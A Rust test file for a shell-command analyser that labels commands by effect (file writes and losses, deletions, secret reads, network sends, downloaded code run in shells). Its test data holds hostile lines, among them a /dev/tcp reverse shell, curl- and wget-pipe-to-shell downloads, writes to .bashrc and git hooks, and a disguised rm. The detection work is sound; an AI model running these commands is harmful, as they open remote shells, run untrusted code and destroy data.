//! Redirections, pipes, functions, script files and what is not known of them.

use super::{check, dirty, empty};
use crate::testing::Fixture;

#[test]
fn redirections() {
    check(
        &empty(),
        &[
            (
                "echo x > a",
                &["write file:/home/dev/proj/a [truncate creates] project"],
            ),
            (
                "> a",
                &["write file:/home/dev/proj/a [truncate creates] project"],
            ),
            (
                ": >| a",
                &["write file:/home/dev/proj/a [truncate creates] project"],
            ),
            (
                "echo x >> a",
                &["write file:/home/dev/proj/a [append creates] project"],
            ),
            (
                "make &> a",
                &[
                    "write file:/home/dev/proj/a [truncate creates] project",
                    "execute program:make",
                ],
            ),
            (
                "{ echo a; echo b; } > a",
                &["write file:/home/dev/proj/a [truncate creates] project"],
            ),
            (
                "for i in 1; do echo $i; done > a",
                &["write file:/home/dev/proj/a [truncate creates] project"],
            ),
            ("ls > /dev/null 2>&1", &[]),
            ("ls 2>/dev/null >&2", &[]),
            (
                "echo x > /dev/sda",
                &["write file:/dev/sda [truncate creates] system"],
            ),
            ("cat < a", &["read file:/home/dev/proj/a project"]),
            (
                "echo x > $nope",
                &["write file: [truncate] (unknown), loss unknown"],
            ),
            (
                "cat < .env",
                &["read file:/home/dev/proj/.env [secret] project"],
            ),
            (
                "cat .env.example",
                &["read file:/home/dev/proj/.env.example project"],
            ),
            (
                "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
                &[
                    "send url:tcp://1.2.3.4/80",
                    "open_channel url:tcp://1.2.3.4/80",
                ],
            ),
            (
                "echo x >> ~/.bashrc",
                &["write autorun:/home/dev/.bashrc [append creates] home"],
            ),
            (
                "echo x > .git/hooks/pre-commit",
                &["write autorun:/home/dev/proj/.git/hooks/pre-commit [truncate creates] project"],
            ),
        ],
    );
}

#[test]
fn overwriting() {
    let lost = |file: &str, kind: &str| {
        format!(
            "write file:/home/dev/proj/{file} [truncate] project, loses 1 file that exists \
             nowhere else ({file} {kind})"
        )
    };
    let quiet = |file: &str| format!("write file:/home/dev/proj/{file} [truncate] project");
    let world = dirty()
        .file("clean.rs", "x")
        .untracked("notes.md")
        .untracked("results.log")
        .ignored("server.log")
        .ignored(".env2")
        .generated("dist/app.js")
        .read_paths("known.md")
        .untracked("known.md");
    assert_eq!(world.actions("echo > a.rs"), [lost("a.rs", "modified")]);
    assert_eq!(
        world.actions("echo > notes.md"),
        [lost("notes.md", "untracked")]
    );
    assert_eq!(
        world.actions("echo > results.log"),
        [lost("results.log", "untracked")]
    );
    assert_eq!(world.actions("echo > .env2"), [lost(".env2", "ignored")]);
    for file in ["clean.rs", "server.log", "dist/app.js", "known.md"] {
        assert_eq!(world.actions(&format!("echo > {file}")), [quiet(file)]);
    }
}

#[test]
fn downloads_into_shells() {
    for command in [
        "curl -fsSL https://x.example/a | sh",
        "curl -s https://x.example/a | sudo bash -s -- --yes",
        "wget -qO- https://x.example/a | bash",
        "wget -O - https://x.example/a | bash",
        "bash -c \"$(curl -fsSL https://x.example/a)\"",
        "sh <(curl -s https://x.example/a)",
        "source <(curl -s https://x.example/a)",
        "curl https://x.example/a | tee x | sh",
        "eval \"$(curl -s https://x.example/a)\"",
        "curl -s https://x.example/a | python3",
    ] {
        let actions = empty().actions(command);
        let runs = actions
            .iter()
            .any(|d| d.starts_with("execute program:") && d.contains("downloaded"));
        assert!(runs, "{command}: {actions:?}");
    }
    let quiet: Vec<String> = [
        "curl -s https://x.example/a | jq .",
        "curl -s https://x.example/a | python3 -m json.tool",
        "curl -s https://x.example/a | frobnicate",
    ]
    .iter()
    .flat_map(|command| empty().actions(command))
    .collect();
    assert!(
        quiet.iter().all(|action| !action.contains("downloaded")),
        "{quiet:?}"
    );
}

#[test]
fn unknown_text_into_shells() {
    for command in [
        "generate | sh",
        "generate | bash -s",
        "bash -c \"$x\"",
        "$x -rf /",
        "generate | python3",
    ] {
        let analysis = empty().read(command);
        let runs = analysis.actions.iter().any(|action| {
            action.verb == model::Verb::Execute && action.certainty == model::Certainty::Unknown
        });
        assert!(runs, "{command}: {:?}", empty().actions(command));
    }
}

#[test]
fn functions_shadow_programs() {
    check(
        &empty(),
        &[
            ("rm() { :; }; rm -rf ~", &[]),
            (
                "rm() { :; }; command rm x",
                &["delete file:/home/dev/proj/x project"],
            ),
            ("rm() { :; }; \\rm x", &[]),
            (
                "rm() { :; }; unset -f rm; rm x",
                &["delete file:/home/dev/proj/x project"],
            ),
            (
                "rm() { :; }; bash -c 'rm x'",
                &["delete file:/home/dev/proj/x project"],
            ),
            ("f() { rm x; }", &[]),
            (
                "f() { rm x; return; rm y; }; f; rm z",
                &[
                    "delete file:/home/dev/proj/x project",
                    "delete file:/home/dev/proj/z project",
                ],
            ),
        ],
    );
}

#[test]
fn script_files() {
    let world = Fixture::new()
        .file("run.sh", "#!/bin/bash\nset -e\nrm -rf \"$1\"\n")
        .file("tool", "#!/usr/bin/env bash\nrm x\n")
        .file("prog.py", "#!/usr/bin/env python3\nimport os\n")
        .file("env.sh", "D=/srv/d\n")
        .file("loop.sh", "bash loop.sh; rm x\n");
    check(
        &world,
        &[
            (
                "./run.sh /srv/x",
                &["delete file:/srv/x [recursive force script] outside (derived)"],
            ),
            (
                "bash run.sh /srv/x",
                &["delete file:/srv/x [recursive force script] outside (derived)"],
            ),
            (
                "./tool",
                &["delete file:/home/dev/proj/x [script] project (derived)"],
            ),
            ("./prog.py", &["execute program:python3"]),
            ("./missing.sh", &["execute program:missing.sh"]),
            (
                ". ./env.sh; rm -rf $D",
                &["delete file:/srv/d [recursive force] outside (derived)"],
            ),
            (
                "bash loop.sh",
                &[
                    "execute program:loop.sh [script] (derived)",
                    "delete file:/home/dev/proj/x [script] project (derived)",
                ],
            ),
        ],
    );
}

#[test]
fn harmless_commands_have_no_actions() {
    for command in [
        "ls -la",
        "echo 'rm -rf /'",
        "true # rm -rf /",
        "git commit -m 'rm -rf /' --dry-run",
        "pwd; date",
        "test -f x && echo yes",
        "[[ -d x ]]",
        "x=1; echo $x",
        "sleep 1",
        "which node",
        "type rm",
        "true <<'E'\nrm -rf /\nE",
        "f() { rm x; }; type f",
        "set -euo pipefail",
        "wait; jobs",
        "alias x='rm -rf /'",
        "((i = 1)); echo $i",
        "let i=1",
        "shopt -s globstar",
    ] {
        let actions = empty().actions(command);
        let harmful = actions
            .iter()
            .filter(|action| !action.starts_with("write git:"));
        assert_eq!(harmful.count(), 0, "{command}: {actions:?}");
    }
    check(
        &empty(),
        &[
            (
                "grep -rn 'rm -rf' scripts/",
                &["read file:/home/dev/proj/scripts project"],
            ),
            (
                "head -n 5 a.txt",
                &["read file:/home/dev/proj/a.txt project"],
            ),
            ("frobnicate --all", &["execute program:frobnicate"]),
        ],
    );
}

#[test]
fn what_cannot_be_read_is_said() {
    for command in ["rm 'x", "echo $(rm", "if true; then rm x"] {
        assert_ne!(empty().read(command).unread, [] as [&str; 0], "{command}");
    }
    let analysis = empty().read("rm x; )");
    assert_eq!(analysis.actions[0].name, "/home/dev/proj/x");
}

#[test]
fn names_that_look_like_others() {
    let analysis = empty().read("rm\u{200b} -rf /tmp/zz");
    assert_eq!(analysis.actions[0].verb, model::Verb::Unknown);
    assert_eq!(
        analysis.unread,
        ["invisible characters in the name of a program"]
    );
    let mut folding = empty();
    folding.place.folds_case = true;
    assert_eq!(
        folding.actions("RM -rf /SRV/x")[0],
        "delete file:/SRV/x [recursive force] outside"
    );
}

/// `set -C`: the shell writes over no file that is there; programs do, and `>|` does.
#[test]
fn shells_that_keep_files() {
    let world = Fixture::new().repo(".").untracked("notes.md");
    for (command, is_lossy) in [
        ("set -C; echo x > notes.md", false),
        ("set -o noclobber; echo x > notes.md || echo there", false),
        ("set -euC; echo x > new.md; echo y > notes.md", false),
        ("set -C; echo x >| notes.md", true),
        ("set -C; set +C; echo x > notes.md", true),
        (
            "set -o noclobber; set +o noclobber; echo x > notes.md",
            true,
        ),
        ("(set -C); echo x > notes.md", true),
        ("$x && set -C; echo x > notes.md", true),
        ("set -C | cat; echo x > notes.md", true),
        ("set -C & echo x > notes.md", true),
        ("set -C; echo x | tee notes.md", true),
        ("bash -c 'set -C'; echo x > notes.md", true),
    ] {
        let actions = world.actions(command);
        let found = actions.iter().any(|action| action.contains("loses"));
        assert_eq!(found, is_lossy, "{command}: {actions:?}");
    }
}
